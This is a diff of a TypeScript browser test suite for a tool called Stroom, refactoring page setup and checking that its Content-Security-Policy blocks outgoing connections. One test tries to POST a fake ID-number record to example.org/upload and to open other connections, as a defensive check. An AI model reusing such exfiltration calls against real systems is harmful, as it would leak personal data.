@@ -6,10 +6,10 @@ import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
 import { spawn, type ChildProcess } from 'node:child_process';
-import type { Browser, Page } from 'playwright-core';
-import { EXAMPLES, REPO, STROOM_BIN, launchChromiumOrSkip, tempDir } from '../helpers.js';
+import type { Page } from 'playwright-core';
+import { EXAMPLES, REPO, STROOM_BIN, tempDir } from '../helpers.js';
 import { cli } from '../cli/in-process.js';
-import { openPage, screenshot, type OpenedPage } from './page.js';
+import { buildPage, openPage, type WebPage } from './page.js';
 
 const QUICK_START = 'havo-hbo.stroom';
 
@@ -34,18 +34,16 @@ function figuresOf(json: string): unknown {
 
 describe('Stroom in the browser: run, funnel, explain and downloads', function () {
     this.timeout(240_000);
-    let browser: Browser;
-    let opened: OpenedPage;
+    let opened: WebPage;
     let page: Page;
 
     before(async function () {
-        browser = await launchChromiumOrSkip(this);
-        opened = await openPage(browser);
+        opened = await openPage(this);
         page = opened.page;
     });
 
     after(async () => {
-        await browser?.close();
+        await opened?.close();
     });
 
     it('runs every indicator of the quick-start example with exactly the figures of stroom run', async () => {
@@ -63,7 +61,7 @@ describe('Stroom in the browser: run, funnel, explain and downloads', function (
         const report = page.frameLocator('#view');
         assert.equal(await report.locator('svg').count(), results.length);
         assert.match(await report.locator('body').innerText(), /hidden to protect small groups|verborgen om kleine groepen/);
-        await screenshot(page, 'web-run');
+        await opened.screenshot('run');
     });
 
     it('downloads the same CSV as stroom run --format csv, and the run as JSON and an HTML report', async () => {
@@ -121,13 +119,13 @@ describe('Stroom in the browser: run, funnel, explain and downloads', function (
     });
 
     it('asked no host for anything and broke no rule of its Content-Security-Policy', () => {
-        assert.deepEqual(opened.requests, []);
-        assert.deepEqual(opened.violations, []);
+        assert.deepEqual(opened.blocked, []);
+        assert.deepEqual(opened.csp, []);
         assert.deepEqual(opened.errors, []);
     });
 
     it('cannot send anything even when asked to: its policy blocks every connection before a request is made', async () => {
-        const before = opened.violations.length;
+        const before = opened.csp.length;
         const outcome = await page.evaluate(async () => {
             const tries = [
                 fetch('https://example.org/upload', { method: 'POST', body: 'bsn;123' }).then(() => 'sent', () => 'blocked'),
@@ -141,21 +139,22 @@ describe('Stroom in the browser: run, funnel, explain and downloads', function (
             return Promise.all(tries);
         });
         assert.deepEqual(outcome, ['blocked', 'blocked', 'blocked']);
-        assert.deepEqual(opened.requests, []);
+        assert.deepEqual(opened.blocked, []);
         await page.waitForTimeout(200);
-        const mine = opened.violations.slice(before);
-        assert.ok(mine.length >= 2 && mine.every((v) => v.startsWith('connect-src')), mine.join('\n'));
+        const mine = opened.csp.slice(before);
+        for (const url of ['https://example.org/upload', 'http://127.0.0.1:9/', 'wss://example.org/']) {
+            assert.ok(mine.some((v) => v.startsWith(`CSP violation: connect-src blocked ${url}`)), `no connect-src violation for ${url}:\n${mine.join('\n')}`);
+        }
     });
 });
 
 describe('stroom serve: the same page on 127.0.0.1', function () {
     this.timeout(180_000);
-    let browser: Browser;
     let server: ChildProcess;
     let url: string;
 
-    before(async function () {
-        browser = await launchChromiumOrSkip(this);
+    before(async () => {
+        await buildPage();
         server = spawn(process.execPath, [STROOM_BIN, 'serve', '--port', '0'], { cwd: REPO, stdio: ['ignore', 'pipe', 'inherit'] });
         url = await new Promise<string>((resolve, reject) => {
             let out = '';
@@ -168,19 +167,21 @@ describe('stroom serve: the same page on 127.0.0.1', function () {
         });
     });
 
-    after(async () => {
+    after(() => {
         server?.kill('SIGINT');
-        await browser?.close();
     });
 
-    it('serves the page, which runs the quick-start example there too', async () => {
-        const opened = await openPage(browser, url);
-        await opened.page.evaluate((f) => globalThis.stroom.open(f), QUICK_START);
-        await opened.page.evaluate(() => globalThis.stroom.run());
-        const web = await opened.page.evaluate(() => globalThis.stroom.json()!);
-        assert.deepEqual(figuresOf(web), figuresOf(await stroomIn(EXAMPLES, ['run', QUICK_START, '--format', 'json', '--no-cache'])));
-        assert.deepEqual(opened.requests, []);
-        assert.deepEqual(opened.violations, []);
-        await opened.page.close();
+    it('serves the page, which runs the quick-start example there too', async function () {
+        const opened = await openPage(this, { url });
+        try {
+            await opened.page.evaluate((f) => globalThis.stroom.open(f), QUICK_START);
+            await opened.page.evaluate(() => globalThis.stroom.run());
+            const web = await opened.page.evaluate(() => globalThis.stroom.json()!);
+            assert.deepEqual(figuresOf(web), figuresOf(await stroomIn(EXAMPLES, ['run', QUICK_START, '--format', 'json', '--no-cache'])));
+            assert.deepEqual(opened.blocked, []);
+            assert.deepEqual(opened.csp, []);
+        } finally {
+            await opened.close();
+        }
     });
 });
